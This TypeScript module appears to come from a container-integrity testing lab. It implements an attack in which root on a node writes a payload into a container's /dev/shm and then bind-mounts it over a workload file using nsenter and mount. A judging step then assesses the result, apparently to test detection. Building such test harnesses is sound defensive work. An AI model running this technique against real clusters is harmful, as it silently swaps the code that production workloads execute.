/**
 * Attack: root on the node enters a running container's mount namespace
 * (`nsenter -t <pid> -m`) and bind-mounts a file of its choosing over a file
 * of the container, e.g. a binary or script the workload runs. The source
 * is staged in the container's /dev/shm (a tmpfs every CRI container has),
 * so the whole attack happens inside the namespace with the container's own
 * mount(8).
 */
import type { Technique } from '../technique.ts';
import { requirePath, requirePayload } from './common.ts';
import { attackerRuns, judgeOvermount, mountinfoOf, targetOf } from './overmount.ts';

export const STAGING = '/dev/shm/.integrity-lab-overmount';

export const overmountNsenter: Technique = {
  name: 'overmount-nsenter',
  async run(ctx) {
    const { node, attack } = ctx;
    const path = requirePath(attack);
    const payload = Buffer.from(requirePayload(attack), 'utf8');
    const target = await targetOf(ctx);
    const mountinfoBefore = await mountinfoOf(node, target.pid);
    await attackerRuns(node, ['sh', '-c', `cat > /proc/${target.pid}/root${STAGING}`], payload);
    const command = ['nsenter', '-t', String(target.pid), '-m', 'mount', '--bind', STAGING, path];
    const startedAt = Date.now();
    await attackerRuns(node, command);
    const doneAt = Date.now();
    return judgeOvermount(ctx, { target, path, payload, command, mountinfoBefore, startedAt, doneAt });
  },
};
